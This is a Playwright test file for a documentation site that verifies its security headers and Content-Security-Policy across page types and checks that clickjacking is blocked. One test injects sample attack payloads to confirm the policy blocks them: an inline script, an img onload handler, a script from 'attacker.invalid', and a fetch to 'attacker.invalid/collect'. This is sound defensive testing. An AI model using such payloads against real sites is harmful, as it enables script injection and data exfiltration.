/**
 * The security headers of lib/host/security-headers.mjs, as the local production server sends
 * them and as vercel.json ships them, and a browser that enforces the Content-Security-Policy on a
 * sample of every page type: any violation (a `securitypolicyviolation` event or a console report)
 * fails the test.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { test, expect, hydrated } from './fixtures';

type Rules = Array<{ source: string; headers: Array<{ key: string; value: string }> }>;
interface HeadersModule {
  headersFor(urlPath: string, rules: Rules): Record<string, string>;
  inlineScripts(html: string): Array<{ hash: string; body: string }>;
}
// An ES module: loaded with import() so that Playwright's CommonJS transform leaves it alone.
const headersModule = (): Promise<HeadersModule> => import('../../lib/host/security-headers.mjs') as unknown as Promise<HeadersModule>;

const root = path.resolve(__dirname, '../..');
const vercel = JSON.parse(fs.readFileSync(path.join(root, 'vercel.json'), 'utf8')) as { headers: Rules };

/** The CSP directives as a map of name → sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

/** Records CSP violations from the first script of every document on. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  const reported: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Content-Security-Policy/i.test(message.text())) reported.push(`console: ${message.text()}`);
  });
  await page.addInitScript(() => {
    const list: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = list;
    document.addEventListener(
      'securitypolicyviolation',
      (event) =>
        list.push(
          `${event.effectiveDirective} blocked ${event.blockedURI || 'inline'} at ${event.sourceFile}:${event.lineNumber} (${event.sample})`,
        ),
      true,
    );
  });
  return async () => [...reported, ...(await page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []))];
}

/** Scrolls through the page so that lazy images, diagrams and prefetches happen. */
async function scrollThrough(page: Page): Promise<void> {
  await page.evaluate(async () => {
    // At most 25 stops, however long the page.
    const step = Math.max(window.innerHeight, document.documentElement.scrollHeight / 25);
    for (let y = 0; y < document.documentElement.scrollHeight; y += step) {
      window.scrollTo(0, y);
      await new Promise((resolve) => setTimeout(resolve, 60));
    }
    window.scrollTo(0, 0);
  });
}

test.describe('response headers', () => {
  test('an HTML page carries the security headers and revalidates; hashed assets are immutable', async ({ page, request }) => {
    const response = await request.get('/using-the-api/paging');
    expect(response.status()).toBe(200);
    const headers = response.headers();
    expect(headers['strict-transport-security']).toMatch(/max-age=\d{8,}; includeSubDomains/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['cache-control']).toBe('public, max-age=0, must-revalidate');

    const csp = directives(headers['content-security-policy']);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'self'"]);
    expect(csp.get('script-src')).not.toContain("'unsafe-eval'");
    expect(csp.get('script-src')).not.toContain("'unsafe-inline'");
    expect(csp.get('script-src')?.filter((source) => source.startsWith('http'))).toEqual([]);

    await page.goto('/');
    const main = await page.evaluate(() =>
      Array.from(document.scripts)
        .map((script) => script.src)
        .find((src) => /\/assets\/js\/main\.[0-9a-f]+\.js$/.test(src)),
    );
    expect(main).toBeTruthy();
    const asset = await request.get(main ?? '');
    expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(asset.headers()['content-security-policy']).toBeTruthy();
  });

  test('the local server sends what vercel.json ships (plus loopback connections for the tests)', async ({ request }) => {
    const { headersFor } = await headersModule();
    for (const route of [
      '/',
      '/using-the-api/paging',
      '/using-the-api/querying',
      '/swagger/',
      '/search',
      '/updates',
      '/platform-api',
      '/img/logo.svg',
      '/no/such/page',
    ]) {
      const response = await request.get(route, { maxRedirects: 0 });
      const shipped = headersFor(route, vercel.headers);
      const got = response.headers();
      for (const [key, value] of Object.entries(shipped)) {
        const served = got[key.toLowerCase()] ?? '';
        if (key === 'Content-Security-Policy') {
          expect(served.replace(/ http:\/\/(127\.0\.0\.1|localhost):\*/g, ''), `${route} ${key}`).toBe(value);
        } else expect(served, `${route} ${key}`).toBe(value);
      }
    }
  });

  test('every inline script the pages carry is allowed by a hash of the policy', async ({ request }) => {
    const { inlineScripts } = await headersModule();
    for (const route of ['/', '/using-the-api/paging', '/updates', '/search', '/swagger/', '/platform-api', '/no/such/page']) {
      const response = await request.get(route);
      const allowed = directives(response.headers()['content-security-policy']).get('script-src') ?? [];
      for (const { hash, body } of inlineScripts(await response.text())) {
        expect(
          allowed,
          `${route}: inline script ${body.slice(0, 60)}… is not allowed; run node lib/host/security-headers.mjs --write build && node scripts/redirects/generate.mjs`,
        ).toContain(`'${hash}'`);
      }
    }
  });

  test('only pages with a live playground may eval, and the playground runs there', async ({ page, request }) => {
    const policy = (await request.get('/using-the-api/querying')).headers()['content-security-policy'];
    expect(directives(policy).get('script-src')).toContain("'unsafe-eval'");
    const check = await watchViolations(page);
    await page.goto('/using-the-api/querying');
    await hydrated(page);
    await expect(page.locator('[class*="playgroundPreview"]').first()).toContainText('status%3DPaid%26%26currency%3DGBP');
    expect(await check()).toEqual([]);
  });

  test('a link into a playground page from another page loads it whole, and the playground runs', async ({ page }) => {
    const check = await watchViolations(page);
    await page.goto('/using-the-api/paging');
    await hydrated(page);
    await page.evaluate(() => ((window as unknown as { sameDocument?: boolean }).sameDocument = true));
    await page.locator('.theme-doc-sidebar-menu a[href="/using-the-api/querying"]').first().click();
    await page.waitForURL(/\/using-the-api\/querying$/);
    // A new document, with the policy of the playground page (src/clientModules/livePlaygroundCsp.ts).
    expect(await page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument)).toBeUndefined();
    await expect(page.locator('[class*="playgroundPreview"]').first()).toContainText('status%3DPaid%26%26currency%3DGBP', {
      timeout: 15_000,
    });
    expect(await check()).toEqual([]);
  });
});

test.describe('no CSP violation on any page type', () => {
  const samples: Array<[string, string, (page: Page) => Promise<void>]> = [
    ['home', '/', async () => {}],
    ['doc page', '/using-the-api/paging', async () => {}],
    [
      'doc with a diagram and images',
      '/bank-feeds/overview',
      async (page) => {
        await expect(page.locator('[data-diagram] img').first()).toBeVisible({ timeout: 15_000 });
      },
    ],
    ['integration page', '/integrations/accounting/xero/overview', async () => {}],
    [
      'docs tag index and tag page',
      '/tags',
      async (page) => {
        await page.locator('main a[href^="/tags/"]').first().click();
        await hydrated(page);
      },
    ],
    [
      'updates list, post, tags and archive',
      '/updates',
      async (page) => {
        await page.locator('article h2 a').first().click();
        await expect(page.locator('article h1')).toBeVisible();
        await page.goto('/updates/tags');
        await hydrated(page);
        await page.goto('/updates/archive');
        await hydrated(page);
      },
    ],
    [
      'API reference',
      '/platform-api',
      async (page) => {
        await expect(page.locator('main h1')).toBeVisible();
      },
    ],
    [
      'API explorer',
      '/swagger/',
      async (page) => {
        await expect(page.locator('.swagger-ui .opblock').first()).toBeVisible({ timeout: 20_000 });
        await page.locator('.swagger-ui .opblock-summary').first().click();
        await expect(page.locator('.swagger-ui .opblock-body').first()).toBeVisible();
      },
    ],
    [
      'search page with results',
      '/search?q=webhooks',
      async (page) => {
        await expect(page.locator('main a[data-search-hit]').first()).toBeVisible({ timeout: 15_000 });
      },
    ],
    [
      'search modal',
      '/using-the-api/querying',
      async (page) => {
        await page.keyboard.press('Control+k');
        await page.getByRole('combobox', { name: 'Search the documentation' }).fill('rate limits');
        await expect(page.getByRole('dialog').getByRole('option').first()).toBeVisible({ timeout: 15_000 });
      },
    ],
    [
      'support pages',
      '/support/',
      async (page) => {
        await page.goto('/raise-support-ticket/');
        await hydrated(page);
      },
    ],
  ];

  for (const [name, route, exercise] of samples) {
    test(`${name} (${route})`, async ({ page }) => {
      const check = await watchViolations(page);
      const response = await page.goto(route);
      expect(response?.status()).toBe(200);
      await hydrated(page);
      await scrollThrough(page);
      await exercise(page);
      // Let idle-time work (analytics, prefetches) run under the policy too: wait until the page is idle.
      await page.evaluate(() => new Promise((resolve) => requestIdleCallback(() => resolve(null), { timeout: 2000 })));
      expect(await check()).toEqual([]);
    });
  }

  test.describe('the not-found page', () => {
    test.use({ allowConsoleErrors: true });
    test('renders with status 404 and no violation', async ({ page, consoleErrors }) => {
      const check = await watchViolations(page);
      const response = await page.goto('/no/such/page');
      expect(response?.status()).toBe(404);
      await hydrated(page);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      expect(await check()).toEqual([]);
      // The only console error is the browser's note about the 404 document itself.
      expect(consoleErrors.filter((error) => !/status of 404/.test(error))).toEqual([]);
    });
  });
});

test.describe('the policy refuses what it should', () => {
  test.use({ allowConsoleErrors: true });

  test('injected inline script, foreign script, eval and a foreign connection are blocked', async ({ page }) => {
    const check = await watchViolations(page);
    await page.goto('/using-the-api/paging');
    await hydrated(page);
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { __pwned?: string };
      const inline = document.createElement('script');
      inline.textContent = 'window.__pwned = "inline"';
      document.body.append(inline);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="/img/logo.svg" onload="window.__pwned = \'handler\'">';
      document.body.append(holder);
      const foreign = document.createElement('script');
      foreign.src = 'https://attacker.invalid/x.js';
      document.body.append(foreign);
      // A string timer is eval run by the page itself (code evaluated by the test is exempt).
      window.setTimeout('window.__pwned = "eval"', 0);
      let fetchBlocked = false;
      try {
        await fetch('https://attacker.invalid/collect');
      } catch {
        fetchBlocked = true;
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { pwned: w.__pwned ?? null, fetchBlocked };
    });
    expect(outcome).toEqual({ pwned: null, fetchBlocked: true });
    const violations = await check();
    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src']) {
      expect(
        violations.some((line) => line.startsWith(directive)),
        `${directive} in ${violations.join('\n')}`,
      ).toBe(true);
    }
  });

  test('another site cannot frame the docs', async ({ page }) => {
    const server = http.createServer((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(
        `<!doctype html><title>framer</title><iframe id="docs" src="${new URL('/using-the-api/paging', test.info().project.use.baseURL).href}"></iframe>`,
      );
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const frameErrors: string[] = [];
    page.on('console', (message) => frameErrors.push(message.text()));
    try {
      await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
      await expect
        .poll(
          () =>
            frameErrors.some((text) => /frame-ancestors|X-Frame-Options|refused to connect/i.test(text)) ||
            page.frames().some((frame) => frame.url().startsWith('chrome-error:')),
        )
        .toBe(true);
      const framed = page.frames().find((frame) => frame.url().includes('/using-the-api/paging'));
      expect(
        (await framed
          ?.locator('article h1')
          .count()
          .catch(() => 0)) ?? 0,
      ).toBe(0);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });
});
